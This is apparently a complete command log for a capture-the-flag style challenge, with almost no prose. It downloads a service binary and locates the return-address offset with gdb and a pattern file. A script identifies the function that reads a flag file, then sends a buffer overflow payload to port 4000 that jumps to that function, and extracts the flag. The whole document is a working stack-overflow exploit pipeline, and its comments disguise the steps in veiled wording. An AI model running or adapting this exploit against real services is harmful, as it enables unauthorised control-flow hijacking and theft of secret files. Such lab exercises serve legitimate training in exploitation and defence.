#-- the desk and its program
cd /tmp && curl -s -o labels http://app:8081/labels && chmod +x labels && file labels
printf '5\nhello' | nc -N -w 5 app 4000; nm labels | grep -i ' t '
#-- a long note: where in it does the program look for its way back?
cd /tmp && { echo 1000; seq -f '%03g.' 0 249 | tr -d '\n'; } > pattern
gdb -q -batch -ex 'run < pattern' -ex 'printf "word %#lx\n", *(long *)$rsp' ./labels 2>&1 | grep '^word' | tee word
cat > offset.py <<'PY'
word = int(open("word").read().split()[1], 16).to_bytes(8, "little")
note = open("pattern", "rb").read().partition(b"\n")[2]
assert note.count(word) == 1, word
print(note.index(word))
PY
python3 offset.py | tee offset
nc -N -w 5 app 4000 < pattern
#-- which function reads the file?
cd /tmp && cat > which.py <<'PY'
import re, struct, subprocess
data = open("labels", "rb").read()
at = data.index(b"/srv/secrets/flag\0")
phoff, = struct.unpack_from("<Q", data, 32)
size, count = struct.unpack_from("<HH", data, 54)
for n in range(count):
    kind, _, offset, address, _, length = struct.unpack_from("<IIQQQQ", data, phoff + size * n)
    if kind == 1 and offset <= at < offset + length:
        place = at - offset + address
text = subprocess.run(["objdump", "-d", "labels"], capture_output=True, text=True).stdout
for part in text.split("\n\n"):
    head = re.match(r"\s*([0-9a-f]+) <(\w+)>:", part)
    if head and f"$0x{place:x}," in part:
        print(head[1], head[2])
PY
python3 which.py | tee function
#-- a note that ends with its address
cd /tmp && cat > send.py <<'PY'
import socket, struct
note = b"A" * int(open("offset").read()) + struct.pack("<Q", int(open("function").read().split()[0], 16))
with socket.create_connection(("app", 4000), timeout=20) as line:
    line.sendall(b"%d\n" % len(note) + note)
    while data := line.recv(4096):
        print(data.decode(errors="replace"), end="")
PY
python3 send.py | tee answer
grep -o 'flag{[0-9a-f]*}' answer
